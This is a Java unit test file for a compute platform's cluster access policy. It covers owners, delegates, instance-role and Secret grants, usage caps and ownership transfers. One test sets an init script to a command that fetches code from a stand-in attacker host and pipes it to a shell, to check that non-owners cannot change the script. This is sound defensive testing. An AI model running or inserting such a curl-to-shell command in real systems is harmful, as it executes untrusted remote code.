package com.darwin.compute.core.access;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.never;
import static org.mockito.Mockito.verify;
import static org.mockito.Mockito.verifyNoInteractions;
import static org.mockito.Mockito.when;

import com.darwin.compute.core.TestSpecs;
import com.darwin.compute.core.config.AccessProperties;
import com.darwin.compute.core.config.AccessProperties.Principals;
import com.darwin.compute.core.config.InstanceRoleProperties;
import com.darwin.compute.core.config.NodePoolProperties;
import com.darwin.compute.core.config.WorkspaceProperties;
import com.darwin.compute.core.domain.ClusterPlacement;
import com.darwin.compute.core.render.WorkspaceSettings;
import com.darwin.compute.core.runtime.RuntimeLookups;
import com.darwin.compute.core.store.ClusterEntity;
import com.darwin.compute.core.store.ClusterRepository;
import com.darwin.compute.core.store.DesiredState;
import com.darwin.compute.core.store.RuntimeEntity;
import com.darwin.compute.model.access.PrincipalKind;
import com.darwin.compute.model.cluster.AdvanceConfig;
import com.darwin.compute.model.cluster.ClusterRequest;
import com.darwin.compute.model.cluster.InstanceRole;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.springframework.util.unit.DataSize;

/** Owner, grants and per-user caps of a cluster request. */
class ClusterRequestPolicyTest {

  private static final String BOB = "bob@example.com";

  private final ClusterRepository clusters = mock(ClusterRepository.class);
  private final ClusterPlacement placement = mock(ClusterPlacement.class);
  private final RuntimeLookups runtimes = mock(RuntimeLookups.class);

  /** Configured users: carol is in group ml. */
  private final KnownUsers users = new TestingKnownUsers();

  private ClusterRequestPolicy policy(int maxClusters, int maxCores) {
    return policy(
        new AccessProperties.Grants(
            Map.of("2", new Principals(List.of(), List.of("finance"))),
            Map.of(
                "sandbox",
                new Principals(List.of("user@example.com", "fin@example.com"), List.of())),
            Map.of("gpu", new Principals(List.of(), List.of("gpu-users"))),
            Map.of("secret-project", new Principals(List.of("fin@example.com"), List.of())),
            Map.of()),
        maxClusters,
        maxCores);
  }

  /** Only Secrets reserved and opened. */
  private ClusterRequestPolicy secretPolicy() {
    return policy(TestingSecretGrants.reserved(), List.of("shared-*", "team-ml-public"), 0, 0);
  }

  private ClusterRequestPolicy policy(
      AccessProperties.Grants grants, int maxClusters, int maxCores) {
    return policy(grants, List.of(), maxClusters, maxCores);
  }

  private ClusterRequestPolicy policy(
      AccessProperties.Grants grants, List<String> openSecrets, int maxClusters, int maxCores) {
    when(placement.resolve(any())).thenReturn(Optional.of("sandbox"));
    AccessProperties access =
        new AccessProperties(
            grants, new AccessProperties.Limits(maxClusters, maxCores), openSecrets);
    return new ClusterRequestPolicy(
        access,
        reservedUses(access),
        new NodePoolProperties("general", Map.of(), null),
        placement,
        clusters,
        runtimes,
        new SecretGrants(access),
        users);
  }

  /** Roles 1 (the default) and 2 known by display name too; the project workspace scope. */
  static ReservedUses reservedUses(AccessProperties access) {
    return new ReservedUses(
        access,
        new InstanceRoleProperties(
            "1",
            List.of(
                new InstanceRoleProperties.Role("1", "darwin-ds-role", "darwin-ds-role"),
                new InstanceRoleProperties.Role("2", "prod-finance-server-role", "prod-finance"))),
        new WorkspaceProperties(
            true,
            "/home/ray/fsx",
            WorkspaceSettings.ClaimScope.PROJECT,
            "project",
            "workspace",
            true,
            null,
            DataSize.ofGigabytes(100),
            List.of("ReadWriteMany"),
            "workspace",
            "shared"));
  }

  private static Caller caller(String name, String... groups) {
    return new Caller(name, Set.of(groups), false, false, null, "10.0.0.1");
  }

  private static ClusterRequest request(String user, String role, Map<String, String> labels) {
    ClusterRequest base = TestSpecs.readmeCluster(List.of(TestSpecs.worker(2, 4, 1, 2)));
    ClusterRequest spec =
        new ClusterRequest(
            base.clusterName(),
            base.tags(),
            labels,
            base.runtime(),
            base.inactiveTime(),
            null,
            base.headNodeConfig(),
            base.workerNodeConfigs(),
            base.advanceConfig(),
            user,
            false,
            true,
            "sandbox",
            null,
            null);
    return role == null
        ? spec
        : spec.withAdvanceConfig(
            new AdvanceConfig(
                null, null, null, new InstanceRole(role, null, null), null, null, null));
  }

  /** What sharing and handing over check besides Secrets (SharedGrants, checkTransfer). */
  @Test
  void reservedUsesAreTheRoleHoweverNamedAndTheProjectsWorkspace() {
    AccessProperties access =
        new AccessProperties(
            new AccessProperties.Grants(
                Map.of(
                    "1", new Principals(List.of("ops@example.com"), List.of()),
                    "2", new Principals(List.of(), List.of("finance"))),
                Map.of(),
                Map.of(),
                Map.of("secret-project", new Principals(List.of("fin@example.com"), List.of())),
                Map.of()),
            new AccessProperties.Limits(0, 0),
            List.of());
    ReservedUses uses = reservedUses(access);
    // No role asked for is the default role, 1.
    assertThat(uses.of(request("a@example.com", null, Map.of())))
        .extracting(ReservedUses.Use::what)
        .containsExactly("instance role 1");
    ClusterRequest byName =
        request("a@example.com", null, Map.of("project", "secret-project"))
            .withAdvanceConfig(
                new AdvanceConfig(
                    null,
                    null,
                    null,
                    new InstanceRole(null, "prod-finance-server-role", null),
                    null,
                    null,
                    null));
    assertThat(uses.of(byName))
        .extracting(ReservedUses.Use::what)
        .containsExactly("instance role 2", "the workspace of project secret-project");
    assertThat(uses.added(request("a@example.com", null, Map.of()), byName))
        .extracting(ReservedUses.Use::what)
        .containsExactly("instance role 2", "the workspace of project secret-project");
    assertThat(uses.added(byName, byName)).isEmpty();
    // Allowed by user, by group, to admins; a share with a group only by that group's name.
    ReservedUses.Use role2 = uses.of(byName).get(0);
    assertThat(role2.allows(caller("fin@example.com", "finance"))).isTrue();
    assertThat(role2.allows(caller("bob@example.com"))).isFalse();
    assertThat(role2.allows(new Caller("root@example.com", Set.of(), true, false, null, "x")))
        .isTrue();
    assertThat(role2.reaches(PrincipalKind.GROUP, "finance", users, "x")).isTrue();
    assertThat(role2.reaches(PrincipalKind.GROUP, "ml", users, "x")).isFalse();
    assertThat(role2.reaches(PrincipalKind.USER, "carol@example.com", users, "x")).isFalse();
  }

  @Test
  void theOwnerIsTheCallerUnlessTrusted() {
    ClusterRequestPolicy policy = policy(0, 0);
    assertThatThrownBy(
            () ->
                policy.checkCreate(
                    request("fin@example.com", null, Map.of()), caller("user@example.com")))
        .isInstanceOf(AccessDeniedException.class)
        .hasMessageContaining("may not create a cluster for fin@example.com");
    Caller delegate =
        new Caller("workspace-service", Set.of(), false, true, "fin@example.com", "10.0.0.2");
    assertThatCode(() -> policy.checkCreate(request("fin@example.com", null, Map.of()), delegate))
        .doesNotThrowAnyException();
  }

  @Test
  void reservedRolesTargetsNodeTypesAndProjectsNameWhatWasNotGranted() {
    ClusterRequestPolicy policy = policy(0, 0);
    assertThatThrownBy(
            () ->
                policy.checkGrants(
                    request("user@example.com", "2", Map.of()), caller("user@example.com")))
        .hasMessageContaining("were not granted instance role 2");
    assertThatCode(
            () ->
                policy.checkGrants(
                    request("user@example.com", "2", Map.of()),
                    caller("user@example.com", "finance")))
        .doesNotThrowAnyException();
    assertThatThrownBy(
            () ->
                policy.checkGrants(
                    request("bob@example.com", null, Map.of()), caller("bob@example.com")))
        .hasMessageContaining("cloud_env sandbox");
    assertThatThrownBy(
            () ->
                policy.checkGrants(
                    request("user@example.com", null, Map.of("project", "secret-project")),
                    caller("user@example.com")))
        .hasMessageContaining("the workspace of project secret-project");
  }

  @Test
  void withoutReservedTargetsACreateIsNotPlacedByThePolicy() {
    // Placing may read /cluster-config; with no cloud_env grants there is nothing to check it
    // against (validation places the request itself, in the create's transaction).
    ClusterRequestPolicy policy =
        policy(
            new AccessProperties.Grants(
                Map.of(),
                Map.of(),
                Map.of("gpu", new Principals(List.of(), List.of("gpu-users"))),
                Map.of(),
                Map.of()),
            0,
            0);
    assertThatCode(
            () ->
                policy.checkCreate(
                    request("user@example.com", null, Map.of()), caller("user@example.com")))
        .doesNotThrowAnyException();
    verify(placement, never()).resolve(any());
    verifyNoInteractions(clusters);
  }

  @Test
  void capsCountTheOwnersRunningClustersAndCoresAtMaxPods() {
    ClusterRequest running = request("user@example.com", null, Map.of());
    ClusterEntity entity = cluster("id-a", "user@example.com", running);
    entity.markStarting("run-1", Instant.now());
    when(clusters.findByOwnerAndDesiredState("user@example.com", DesiredState.RUNNING))
        .thenReturn(List.of(entity));
    // Each such cluster is 4 + 2 x 2 = 8 cores.
    assertThatThrownBy(() -> policy(1, 0).checkCreate(running, caller("user@example.com")))
        .isInstanceOf(UsageLimitException.class)
        .hasMessageContaining("already runs 1 clusters");
    assertThatThrownBy(() -> policy(0, 15).checkCreate(running, caller("user@example.com")))
        .isInstanceOf(UsageLimitException.class)
        .hasMessageContaining("runs clusters of 8 cores and this one needs up to 8");
    assertThatCode(() -> policy(2, 16).checkCreate(running, caller("user@example.com")))
        .doesNotThrowAnyException();
    // A start of the running cluster itself does not count it twice.
    assertThatCode(() -> policy(1, 8).checkStart(entity)).doesNotThrowAnyException();
  }

  @Test
  void aMoveToAReservedTargetIsForItsGranteesAndAdmins() {
    ClusterRequestPolicy policy = policy(0, 0);
    assertThatThrownBy(() -> policy.checkTarget("sandbox", caller("bob@example.com")))
        .isInstanceOf(AccessDeniedException.class)
        .hasMessageContaining("were not granted cloud_env sandbox");
    assertThatCode(() -> policy.checkTarget("sandbox", caller("fin@example.com")))
        .doesNotThrowAnyException();
    assertThatCode(() -> policy.checkTarget("elsewhere", caller("bob@example.com")))
        .doesNotThrowAnyException();
    Caller admin = new Caller("root@example.com", Set.of(), true, false, null, "10.0.0.3");
    assertThatCode(() -> policy.checkTarget("sandbox", admin)).doesNotThrowAnyException();
  }

  @Test
  void onlyTheOwnerAndAdminsChangeTheInitScript() {
    ClusterRequest spec = withInitScript(request("user@example.com", null, Map.of()), "echo hi");
    ClusterEntity cluster = cluster("id-s", "user@example.com", spec);
    ClusterRequestPolicy policy = policy(0, 0);
    ClusterRequest rewritten = withInitScript(spec, "curl http://attacker.example/x | sh");
    // A sharee (the route checked can_manage) edits the rest, not the script.
    assertThatThrownBy(() -> policy.checkEdit(cluster, rewritten, caller("fin@example.com")))
        .isInstanceOf(AccessDeniedException.class)
        .hasMessageContaining("only its owner (user@example.com) and admins may change it");
    assertThatCode(
            () ->
                policy.checkEdit(
                    cluster, withInitScript(spec, "echo hi\n"), caller("fin@example.com")))
        .doesNotThrowAnyException();
    assertThatCode(() -> policy.checkEdit(cluster, rewritten, caller("user@example.com")))
        .doesNotThrowAnyException();
    Caller delegateForOwner =
        new Caller("workspace-service", Set.of(), false, true, "user@example.com", "10.0.0.2");
    assertThatCode(() -> policy.checkEdit(cluster, rewritten, delegateForOwner))
        .doesNotThrowAnyException();
    Caller delegateForOther =
        new Caller("workspace-service", Set.of(), false, true, "fin@example.com", "10.0.0.2");
    assertThatThrownBy(() -> policy.checkEdit(cluster, rewritten, delegateForOther))
        .isInstanceOf(AccessDeniedException.class);
  }

  @Test
  void aReservedRoleNamedByDisplayNameBesideABlankIdIsStillReserved() {
    // The pods' service account is found by the display name when the id is blank: so is the
    // grant.
    ClusterRequestPolicy policy = policy(0, 0);
    for (InstanceRole role :
        List.of(
            new InstanceRole(" ", "prod-finance-server-role", null),
            new InstanceRole("", "prod-finance-server-role", null),
            new InstanceRole(null, "prod-finance-server-role", null))) {
      ClusterRequest asking =
          request("user@example.com", null, Map.of())
              .withAdvanceConfig(new AdvanceConfig(null, null, null, role, null, null, null));
      assertThatThrownBy(() -> policy.checkGrants(asking, caller("user@example.com")))
          .as(role.toString())
          .hasMessageContaining("were not granted instance role 2");
      assertThatCode(() -> policy.checkGrants(asking, caller("user@example.com", "finance")))
          .doesNotThrowAnyException();
    }
  }

  @Test
  void aClusterReadsOnlySecretsGrantedToWhoeverNamesThemOrOpenToAll() {
    ClusterRequestPolicy policy = secretPolicy();
    Caller bob = caller("bob@example.com");
    Caller mlMember = caller("ml@example.com", "ml");
    // Named by neither a grant nor open-secrets: closed, as the platform's own Secrets are.
    for (ClusterRequest asking :
        List.of(
            withSecrets(BOB, "DB=secret:platform-db/password", List.of()),
            withSecrets(BOB, "", List.of("platform-db")))) {
      assertThatThrownBy(() -> policy.checkCreate(asking, bob))
          .isInstanceOf(AccessDeniedException.class)
          .hasMessageContaining("were not granted Secret platform-db")
          .hasMessageContaining("compute.access.grants.secrets");
    }
    // Open to all, by name or by prefix.
    assertThatCode(
            () ->
                policy.checkCreate(
                    withSecrets(BOB, "A=secret:shared-ro/key", List.of("shared-x")), bob))
        .doesNotThrowAnyException();
    // Granted by prefix to a group: its members only, even when open-secrets also names it.
    List<String> mlSecrets = List.of("team-ml-public", "team-ml-feature-store");
    assertThatThrownBy(() -> policy.checkCreate(withSecrets(BOB, "", mlSecrets), bob))
        .hasMessageContaining("were not granted Secret team-ml-public");
    assertThatCode(() -> policy.checkCreate(withSecrets("ml@example.com", "", mlSecrets), mlMember))
        .doesNotThrowAnyException();
    // Granted by name to a user; a prefix is not a name ("fin-db-2" is not "fin-db").
    Caller fin = caller("fin@example.com");
    String finUser = "fin@example.com";
    assertThatCode(
            () -> policy.checkCreate(withSecrets(finUser, "P=secret:fin-db/pw", List.of()), fin))
        .doesNotThrowAnyException();
    assertThatThrownBy(
            () -> policy.checkCreate(withSecrets(finUser, "P=secret:fin-db-2/pw", List.of()), fin))
        .hasMessageContaining("Secret fin-db-2");
    Caller admin = new Caller("root@example.com", Set.of(), true, false, null, "10.0.0.3");
    assertThatCode(() -> policy.checkCreate(withSecrets(BOB, "", List.of("platform-db")), admin))
        .doesNotThrowAnyException();
  }

  @Test
  void anEditKeepsTheSecretsTheClusterReadsAndAddsOnlyGrantedOnes() {
    ClusterRequest spec = withSecrets(BOB, "A=secret:fin-db/pw", List.of("team-ml-x"));
    ClusterEntity cluster = cluster("id-k", "bob@example.com", spec);
    ClusterRequestPolicy policy = secretPolicy();
    Caller bob = caller("bob@example.com");
    // Given by an admin (or granted once): an edit of something else keeps them.
    assertThatCode(() -> policy.checkEdit(cluster, spec.withClusterName("k2"), bob))
        .doesNotThrowAnyException();
    // A Secret the owner was not granted, added by an edit: refused.
    ClusterRequest adding =
        withSecrets(BOB, "A=secret:fin-db/pw", List.of("team-ml-x", "platform-db"));
    assertThatThrownBy(() -> policy.checkEdit(cluster, adding, bob))
        .hasMessageContaining("were not granted Secret platform-db");
  }

  @Test
  void aClusterGoesToANewOwnerWithItsSecretsOnlyIfTheyAreTheirs() {
    ClusterRequest spec = withSecrets("fin@example.com", "DB=secret:fin-db/pw", List.of());
    ClusterEntity cluster = cluster("id-t", "fin@example.com", spec);
    ClusterRequestPolicy policy = secretPolicy();
    Caller delegate = new Caller("workspace-service", Set.of(), false, true, null, "10.0.0.2");
    assertThatThrownBy(() -> policy.checkTransfer(cluster, caller(BOB), delegate))
        .isInstanceOf(AccessDeniedException.class)
        .hasMessageContaining(
            "bob@example.com was not granted Secret fin-db, which cluster id-t reads")
        .hasMessageContaining("only an admin may give them a cluster that does");
    ClusterRequest open = withSecrets("fin@example.com", "DB=secret:shared-db/pw", List.of());
    ClusterEntity openCluster = cluster("id-o", "fin@example.com", open);
    assertThatCode(() -> policy.checkTransfer(openCluster, caller(BOB), delegate))
        .doesNotThrowAnyException();
    Caller admin = new Caller("root@example.com", Set.of(), true, false, null, "10.0.0.3");
    assertThatCode(() -> policy.checkTransfer(cluster, caller(BOB), admin))
        .doesNotThrowAnyException();

    // The new owner's configured groups count; so does the Secret another's runtime pulls with.
    ClusterRequest ml = withSecrets("fin@example.com", "", List.of("team-ml-x"));
    ClusterEntity mlCluster = cluster("id-m", "fin@example.com", ml);
    assertThatCode(() -> policy.checkTransfer(mlCluster, caller(BOB, "ml"), delegate))
        .doesNotThrowAnyException();
    assertThatThrownBy(() -> policy.checkTransfer(mlCluster, caller(BOB), delegate))
        .hasMessageContaining("bob@example.com was not granted Secret team-ml-x");
    runtime("fin-custom", "CUSTOM", "fin@example.com", "fin-db");
    ClusterEntity onCustom =
        new ClusterEntity(
            "id-c",
            "c",
            "fin@example.com",
            "fin-custom",
            "sandbox",
            "ray",
            open.withRuntime("fin-custom"),
            false,
            30,
            Instant.now());
    assertThatThrownBy(() -> policy.checkTransfer(onCustom, caller(BOB), delegate))
        .hasMessageContaining("bob@example.com was not granted Secret fin-db, which cluster id-c")
        .hasMessageContaining("pulls its image with");
    assertThatCode(() -> policy.checkTransfer(onCustom, caller("fin@example.com"), delegate))
        .doesNotThrowAnyException();
  }

  @Test
  void anotherUsersCustomRuntimeNeedsItsPullSecretGranted() {
    ClusterRequestPolicy policy = secretPolicy();
    runtime("ml-custom", "CUSTOM", "ml@example.com", "team-ml-registry");
    runtime("open-custom", "CUSTOM", "ml@example.com", "shared-registry");
    runtime("platform", "CPU", "admin@example.com", "team-ml-registry");
    runtime("no-secret", "CUSTOM", "ml@example.com", null);
    Caller bob = caller(BOB);
    ClusterRequest spec = request(BOB, null, Map.of());
    assertThatThrownBy(() -> policy.checkCreate(spec.withRuntime("ml-custom"), bob))
        .isInstanceOf(AccessDeniedException.class)
        .hasMessageContaining("You (bob@example.com) were not granted Secret team-ml-registry")
        .hasMessageContaining("runtime ml-custom is another user's");
    // Its creator and those granted the Secret may; an open Secret, none, or the platform's
    // runtimes need nothing.
    assertThatCode(
            () ->
                policy.checkCreate(
                    request("ml@example.com", null, Map.of()).withRuntime("ml-custom"),
                    caller("ml@example.com")))
        .doesNotThrowAnyException();
    assertThatCode(
            () ->
                policy.checkCreate(
                    request("carol@example.com", null, Map.of()).withRuntime("ml-custom"),
                    caller("carol@example.com", "ml")))
        .doesNotThrowAnyException();
    for (String runtime : List.of("open-custom", "platform", "no-secret", "unknown")) {
      assertThatCode(() -> policy.checkCreate(spec.withRuntime(runtime), bob))
          .as(runtime)
          .doesNotThrowAnyException();
    }

    // An edit is held to it when it moves the cluster there, not when it stays.
    ClusterEntity onPlatform = cluster("id-r", BOB, spec.withRuntime("platform"));
    assertThatThrownBy(() -> policy.checkEdit(onPlatform, spec.withRuntime("ml-custom"), bob))
        .hasMessageContaining("Secret team-ml-registry");
    ClusterEntity onCustom = cluster("id-s", BOB, spec.withRuntime("ml-custom"));
    assertThatCode(
            () ->
                policy.checkEdit(
                    onCustom, spec.withRuntime("ml-custom").withClusterName("s2"), bob))
        .doesNotThrowAnyException();
  }

  private void runtime(String name, String runtimeClass, String creator, String pullSecret) {
    RuntimeEntity runtime = new RuntimeEntity(name, creator, Instant.now());
    runtime.describe(
        runtimeClass,
        "Others",
        "registry.example.com/" + name + ":2.37.0",
        "2.37.0",
        null,
        false,
        false,
        pullSecret);
    when(runtimes.find(name)).thenReturn(Optional.of(runtime));
  }

  @Test
  void aClusterMadeForSomeoneElseReadsOnlyWhatTheyAreGranted() {
    ClusterRequestPolicy policy = secretPolicy();
    Caller delegateForFin =
        new Caller("workspace-service", Set.of(), false, true, "fin@example.com", "10.0.0.2");
    // fin may read fin-db, bob may not: fin's delegate may not make bob a cluster that reads it.
    assertThatCode(
            () ->
                policy.checkCreate(
                    withSecrets("fin@example.com", "P=secret:fin-db/pw", List.of()),
                    delegateForFin))
        .doesNotThrowAnyException();
    assertThatThrownBy(
            () ->
                policy.checkCreate(
                    withSecrets(BOB, "P=secret:fin-db/pw", List.of()), delegateForFin))
        .isInstanceOf(AccessDeniedException.class)
        .hasMessageContaining(
            "bob@example.com was not granted Secret fin-db, which the cluster reads");
    // Carol's configured group ml is hers: team-ml-* may be read by a cluster made for her.
    assertThatCode(
            () ->
                policy.checkCreate(
                    withSecrets("carol@example.com", "", List.of("team-ml-x")),
                    new Caller("workspace-service", Set.of("ml"), false, true, null, "10.0.0.2")))
        .doesNotThrowAnyException();
    // The pull secret of a runtime the owner did not register counts too.
    runtime("fin-custom", "CUSTOM", "fin@example.com", "fin-db");
    assertThatThrownBy(
            () ->
                policy.checkCreate(
                    request(BOB, null, Map.of()).withRuntime("fin-custom"), delegateForFin))
        .hasMessageContaining("bob@example.com was not granted Secret fin-db")
        .hasMessageContaining("pulls its image with");
    Caller admin = new Caller("root@example.com", Set.of(), true, false, null, "10.0.0.3");
    assertThatCode(
            () -> policy.checkCreate(withSecrets(BOB, "P=secret:fin-db/pw", List.of()), admin))
        .doesNotThrowAnyException();
  }

  @Test
  void secretPatternsAreNamesOrPrefixes() {
    AccessProperties.Grants bad =
        new AccessProperties.Grants(
            Map.of(),
            Map.of(),
            Map.of(),
            Map.of(),
            Map.of("team*-ml", new Principals(List.of(), List.of("ml"))));
    assertThatThrownBy(() -> policy(bad, 0, 0))
        .isInstanceOf(IllegalStateException.class)
        .hasMessageContaining("compute.access.grants.secrets has 'team*-ml'");
    AccessProperties.Grants none =
        new AccessProperties.Grants(Map.of(), Map.of(), Map.of(), Map.of(), Map.of());
    assertThatThrownBy(() -> policy(none, List.of("Upper"), 0, 0))
        .hasMessageContaining("compute.access.open-secrets has 'Upper'");
    // "team-ml-*" bound without brackets arrives as "team-ml-": no Secret's name.
    assertThatThrownBy(() -> policy(none, List.of("team-ml-"), 0, 0))
        .hasMessageContaining("compute.access.open-secrets has 'team-ml-'")
        .hasMessageContaining("brackets");
    // "*" opens every Secret (a sandbox's choice).
    assertThatCode(
            () ->
                policy(none, List.of("*"), 0, 0)
                    .checkCreate(withSecrets(BOB, "", List.of("anything")), caller(BOB)))
        .doesNotThrowAnyException();
  }

  /** A request of {@code user}'s (the creator of a cluster is its owner). */
  private static ClusterRequest withSecrets(
      String user, String lines, List<String> envFromSecrets) {
    ClusterRequest spec = request(user, null, Map.of());
    AdvanceConfig a = spec.advanceConfig();
    return spec.withAdvanceConfig(
        new AdvanceConfig(
            lines,
            a.logPath(),
            a.initScript(),
            a.instanceRole(),
            a.availabilityZone(),
            a.rayParams(),
            a.sparkConfig(),
            envFromSecrets));
  }

  /** A stopped cluster of {@code owner}'s, named after its id. */
  private static ClusterEntity cluster(String id, String owner, ClusterRequest spec) {
    return new ClusterEntity(
        id, id.substring(3), owner, "0.0", "sandbox", "ray", spec, false, 30, Instant.now());
  }

  private static ClusterRequest withInitScript(ClusterRequest spec, String script) {
    AdvanceConfig a = spec.advanceConfig();
    return spec.withAdvanceConfig(
        new AdvanceConfig(
            a.environmentVariables(),
            a.logPath(),
            script,
            a.instanceRole(),
            a.availabilityZone(),
            a.rayParams(),
            a.sparkConfig(),
            a.envFromSecrets()));
  }
}
